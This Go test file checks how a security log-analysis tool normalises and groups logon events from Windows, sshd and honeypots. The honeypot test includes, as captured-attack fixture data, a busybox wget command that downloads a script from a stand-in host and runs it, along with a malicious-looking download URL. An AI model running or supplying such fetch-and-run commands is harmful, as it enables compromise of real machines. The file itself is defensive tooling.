package subject

import (
	"testing"

	"github.com/longtail/longtail/engine/record"
)

func logon() *record.Record {
	var r record.Record
	r.ResetLogon()
	r.Client = []byte("10.0.2.17")
	r.Account = []byte("Administrator")
	r.AccountDomain = []byte("CORP")
	r.Target = []byte("DC01.corp.example.com")
	r.LogonType = []byte("10")
	r.AuthPackage = []byte("NTLM")
	r.Result = record.LogonFailure
	r.Reason = []byte("0xC000006A")
	r.EventID = 4625
	return &r
}

// Each logon subject takes its value from the event and rolls it up to
// what an analyst groups it by; the pair rolls up to its account.
func TestLogonSubjects(t *testing.T) {
	r := logon()
	want := map[Code][2]string{
		LogonAccount: {"administrator@corp", "corp"},
		LogonSource:  {"10.0.2.17", "10.0.2.0/24"},
		LogonPair:    {"administrator@corp ← 10.0.2.17", "administrator@corp"},
		LogonTarget:  {"dc01.corp.example.com", "example.com"},
		LogonType:    {"10 remote interactive", "remote"},
		LogonAuth:    {"ntlm", "ntlm"},
		LogonResult:  {"failure · wrong password", "failure"},
	}
	absent := map[Code]bool{LogonPassword: true, LogonCommand: true, LogonURL: true, LogonSoftware: true, LogonHASSH: true}
	for _, s := range Of(record.KindLogon) {
		v, ok := s.Append(nil, r)
		if absent[s.Code] {
			if ok {
				t.Errorf("%s: %q from a logon without one", s.Name, v)
			}
			continue
		}
		w, listed := want[s.Code]
		if !listed {
			t.Fatalf("subject %s not expected", s.Name)
		}
		if !ok || string(v) != w[0] || s.RollUp(string(v)) != w[1] {
			t.Errorf("%s: %q (ok %v) → %q, want %q → %q", s.Name, v, ok, s.RollUp(string(v)), w[0], w[1])
		}
	}
	if p := Primary(record.KindLogon); p.Code != LogonSource {
		t.Errorf("primary %s", p.Name)
	}
	if d := Default(record.KindLogon); d.Code != LogonSource {
		t.Errorf("default %s", d.Name)
	}
}

// One Windows account is one value however its events spell it: the
// NetBIOS domain of a 4624, the DNS one of a Kerberos event, any case,
// and no domain at all in lower case too. A Unix account keeps its case.
func TestAccountSpellings(t *testing.T) {
	account, _ := ByCode(LogonAccount)
	for _, c := range []struct {
		user, domain string
		id           uint16
		want         string
	}{
		{"Administrator", "CORP", 4625, "administrator@corp"},
		{"administrator", "corp.example.com", 4768, "administrator@corp"},
		{"ADMINISTRATOR", "Corp.Example.Com", 4769, "administrator@corp"},
		{"PGustavo", "", 4776, "pgustavo"},
		{"l.mowers@GLOBAL.COM", "", 4769, "l.mowers@global"},
		{"l.mowers@global.com", "global.com", 4769, "l.mowers@global"},
		{"PGustavo", "", 0, "PGustavo"}, // sshd: Unix names are case-sensitive
	} {
		r := logon()
		r.Account, r.AccountDomain, r.EventID = []byte(c.user), []byte(c.domain), c.id
		if got, _ := account.Append(nil, r); string(got) != c.want {
			t.Errorf("%s in %q (event %d): %q, want %q", c.user, c.domain, c.id, got, c.want)
		}
	}
}

// An sshd or honeypot logon: a local account keeps its case and rolls up
// to (local); the source is "-" when unknown, so that every logon has its
// primary subject, but then there is no pair; the honeypot's password,
// command, URL and client software are subjects of their own.
func TestHoneypotAndLocalLogons(t *testing.T) {
	var r record.Record
	r.ResetLogon()
	r.Account = []byte("Admin")
	r.Target = []byte("honeypot1")
	r.LogonType = []byte("ssh")
	r.Result = record.LogonInvalidUser
	r.Password = []byte("123456")
	r.Command = []byte("  /bin/busybox wget http://x.example/a; sh a ")
	r.URL = []byte("http://dl.bad.example:8080/a.sh")
	r.Software = []byte("SSH-2.0-libssh2_1.7.0")
	for _, c := range []struct {
		code     Code
		val, grp string
		ok       bool
	}{
		{LogonAccount, "Admin", Local, true},
		{LogonSource, None, None, true},
		{LogonPair, "", "", false},
		{LogonTarget, "honeypot1", Local, true},
		{LogonType, "ssh", "remote", true},
		{LogonResult, "invalid-user", "invalid-user", true},
		{LogonPassword, "123456", "digits only", true},
		{LogonCommand, "/bin/busybox wget http://x.example/a; sh a", "busybox", true},
		{LogonURL, "http://dl.bad.example:8080/a.sh", "bad.example", true},
		{LogonSoftware, "SSH-2.0-libssh2_1.7.0", "libssh2", true},
	} {
		s := Must(c.code)
		v, ok := s.Append(nil, &r)
		if ok != c.ok || string(v) != c.val || ok && s.RollUp(string(v)) != c.grp {
			t.Errorf("%s: %q %v → %q, want %q %v → %q", s.Name, v, ok, s.RollUp(string(v)), c.val, c.ok, c.grp)
		}
	}
}

func TestStatusWords(t *testing.T) {
	for in, want := range map[string]string{
		"0xC000006A": "wrong password", "0xc0000064": "no such user", "0xC0000234": "locked out",
		"0x18": "wrong password", "0xDEADBEEF": "0xDEADBEEF", "key refused": "key refused", "": "",
		// Zeek's kerberos.log names the Kerberos codes.
		"KDC_ERR_PREAUTH_FAILED": "wrong password", "KDC_ERR_C_PRINCIPAL_UNKNOWN": "no such user", "0x44": "wrong realm",
		"KDC_ERR_WRONG_REALM": "wrong realm", "KDC_ERR_SOMETHING_NEW": "KDC_ERR_SOMETHING_NEW",
	} {
		if got := StatusWords(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

func TestPasswordShapesAndPrograms(t *testing.T) {
	for p, want := range map[string]string{"123456": "digits only", "admin": "letters only", "admin123": "letters and digits", "p@ss": "with symbols"} {
		if got := passwordShape(p); got != want {
			t.Errorf("%q: %q, want %q", p, got, want)
		}
	}
	for c, want := range map[string]string{"uname -a": "uname", "cd /tmp;wget x": "cd", ";": None, "/usr/bin/": "/usr/bin/"} {
		if got := commandProgram(c); got != want {
			t.Errorf("%q: %q, want %q", c, got, want)
		}
	}
}

// The logon's subjects and its detail text are appended without
// allocating, as the HTTP ones are.
func TestLogonAppendDoesNotAllocate(t *testing.T) {
	r := logon()
	r.Password, r.Command, r.URL, r.Software = []byte("pw"), []byte("ls"), []byte("http://a.example/"), []byte("SSH-2.0-x")
	buf := make([]byte, 0, 512)
	for _, s := range Of(record.KindLogon) {
		if n := testing.AllocsPerRun(100, func() { buf, _ = s.Append(buf[:0], r) }); n != 0 {
			t.Errorf("%s: %v allocations", s.Name, n)
		}
	}
	if n := testing.AllocsPerRun(100, func() { buf, _ = AppendLogonDetail(buf[:0], r) }); n != 0 {
		t.Errorf("detail: %v allocations", n)
	}
}

// A logon's detail text reads back field by field; a separator in a field
// cannot shift the others.
func TestLogonDetailRoundTrip(t *testing.T) {
	r := logon()
	r.Password, r.Command = []byte("a\x1fb"), []byte("id")
	text, exact := AppendLogonDetail(nil, r)
	if exact {
		t.Error("a password with a separator in it is said to be held exactly")
	}
	got := ParseLogonDetail(string(text))
	want := LogonDetail{Account: "Administrator", AccountDomain: "CORP", Target: "DC01.corp.example.com", LogonType: "10",
		Auth: "NTLM", Result: "failure", Reason: "0xC000006A", Password: "a?b", Command: "id"}
	if got != want {
		t.Errorf("got %+v\nwant %+v", got, want)
	}
}

// A logon read back from its stored detail, event id and source gives
// every subject the value ingest stored from the original record, a
// source the event did not name included.
func TestLogonRecordFromDetail(t *testing.T) {
	unix := logon()
	unix.EventID, unix.AccountDomain, unix.Account = 0, nil, []byte("Root")
	noSource := logon()
	noSource.Client = nil
	pot := logon()
	pot.Result, pot.Reason, pot.Command, pot.Password = nil, nil, []byte(" wget x "), []byte("hunter2")
	for _, orig := range []*record.Record{logon(), unix, noSource, pot} {
		source, _ := Must(LogonSource).Append(nil, orig)
		var back record.Record
		text, _ := AppendLogonDetail(nil, orig)
		LogonRecord(ParseLogonDetail(string(text)), orig.EventID, source, &back)
		for _, s := range Of(record.KindLogon) {
			want, wantOK := s.Append(nil, orig)
			got, ok := s.Append(nil, &back)
			if string(got) != string(want) || ok != wantOK {
				t.Errorf("%s of %s: read back %q %v, stored %q %v", s.Name, orig.Account, got, ok, want, wantOK)
			}
		}
	}
}

// A value typed on the command line is taken in the form it is stored in.
func TestStoredIsTheFormAppendStores(t *testing.T) {
	for _, c := range []struct {
		sub       Subject
		typed, is string
	}{
		{logonAccount, "Administrator@CORP", "administrator@corp"},
		{logonAccount, "Administrator@corp.example.com", "administrator@corp"},
		{logonAccount, "Root", "Root"}, // a Unix account, as logged
		{logonSource, " SCORPIA ", "scorpia"},
		{logonPair, "Admin@CORP <- SCORPIA", "admin@corp ← scorpia"},
		{logonPair, "root ← 10.0.0.1", "root ← 10.0.0.1"},
		{httpAgent, "Mozilla/5.0", "Mozilla/5.0"}, // user agents are case-sensitive
	} {
		if got := c.sub.Stored(c.typed); got != c.is {
			t.Errorf("%s %q: %q, want %q", c.sub.Name, c.typed, got, c.is)
		}
	}
}
